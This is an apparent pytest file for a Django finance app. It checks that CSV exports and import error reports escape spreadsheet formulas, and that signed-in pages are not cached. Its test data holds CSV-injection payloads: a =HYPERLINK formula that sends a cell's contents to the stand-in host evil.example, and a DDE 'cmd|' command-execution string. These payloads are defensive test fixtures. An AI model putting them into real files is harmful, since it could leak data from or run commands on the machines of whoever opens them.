"""Exports a spreadsheet opens safely, with the user's accounts, and signed-in pages nobody caches (issue 23
item 12): a bank narrative such as `=HYPERLINK(...)` is text in every CSV Moneta writes; amounts stay numbers."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from rest_framework.authtoken.models import Token

from core.errors import DomainError
from transactions.importing import transactions_import
from transactions.models import Account

pytestmark = pytest.mark.django_db
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
STATEMENT = "Date,Description,Amount\n" + "".join(
    f'2026-03-0{i + 1},"{text.replace(chr(34), chr(34) * 2)}",-{i + 1}0.00\n' for i, text in enumerate(EVIL))


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_every_export_csv_keeps_formulas_as_text_and_includes_accounts(alice, bob):
    account = Account.objects.create(user=alice, name="=Everyday +account")
    transactions_import(user=alice, file_name="everyday.csv", content=STATEMENT.encode(), account=account)
    transactions_import(user=bob, file_name="bob.csv", content=b"Date,Description,Amount\n2026-03-01,BOB SHOP,-1\n")
    client = Client()
    client.force_login(alice)
    response = client.get("/account/export/")
    assert response.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(response.content))
    rows = _csv_rows(zf.read("transactions.csv"))
    descriptions = sorted(r["description"] for r in rows)
    assert descriptions == sorted("'" + text for text in EVIL)  # every formula is text
    assert sorted(r["amount"] for r in rows) == ["-10.00", "-20.00", "-30.00", "-40.00"]  # numbers stay numbers
    accounts = _csv_rows(zf.read("accounts.csv"))
    assert [(a["name"], a["currency"]) for a in accounts] == [("'=Everyday +account", "USD")]
    assert {r["account__name"] for r in rows} == {"'=Everyday +account"}
    assert b"BOB SHOP" not in b"".join(zf.read(n) for n in zf.namelist())


def test_import_error_report_csv_is_safe(alice):
    content = b"Date,Description,Amount\n" + b"".join(b"2026-03-%02d,FINE %d,-1\n" % (d, d) for d in range(1, 28))
    with pytest.raises(DomainError) as failed:
        transactions_import(user=alice, file_name="bad.csv", content=content + b'=cmd,ROW,"@x"\n-1+2,@SUM(1),3\n')
    batch_id = failed.value.details["batch_id"]
    client = Client()
    client.force_login(alice)
    report = client.get(f"/transactions/import/{batch_id}/errors.csv").content.decode()
    lines = list(csv.reader(io.StringIO(report)))[1:]
    assert lines and "'=cmd" in report
    for line in lines:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in line), line


def test_signed_in_responses_are_not_stored(alice):
    client = Client()
    assert "no-store" not in client.get("/accounts/login/").get("Cache-Control", "")
    client.force_login(alice)
    for url in ("/", "/transactions/", "/account/", "/api/v1/transactions/"):
        assert client.get(url)["Cache-Control"] == "no-store", url
    token = Token.objects.create(user=alice)
    api = Client(HTTP_AUTHORIZATION=f"Token {token.key}")
    response = api.get("/api/v1/transactions/")
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
